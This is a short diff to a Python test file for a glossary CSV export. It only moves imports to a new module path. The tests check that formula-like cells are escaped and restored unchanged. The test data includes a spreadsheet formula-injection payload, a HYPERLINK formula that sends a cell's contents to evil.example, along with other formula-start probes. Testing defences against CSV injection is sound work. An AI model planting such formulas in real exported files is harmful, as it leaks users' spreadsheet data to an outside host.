@@ -18,7 +18,7 @@ def _mode(path: Path) -> int:
 
 # --- glossary CSV export ---
 def test_glossary_export_neutralises_formulas_and_imports_back_unchanged(app, staff, staff_client, post):
-    from easyread import council_glossary
+    from easyread.glossary import council as council_glossary
 
     nasty = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1,2)", "-2+3", "@cmd"]
     entries = [council_glossary.GlossaryEntry(f"word {n}", value, {"pl": value}) for n, value in enumerate(nasty)]
@@ -43,7 +43,7 @@ def test_glossary_export_neutralises_formulas_and_imports_back_unchanged(app, st
 
 
 def test_spreadsheet_safe_covers_every_formula_start():
-    from easyread.council_glossary import spreadsheet_safe, unspreadsheet
+    from easyread.glossary.council import spreadsheet_safe, unspreadsheet
 
     for cell in ("=1", "+1", "-1", "@A", "\tx", "\rx"):
         assert spreadsheet_safe(cell) == "'" + cell and unspreadsheet(spreadsheet_safe(cell)) == cell
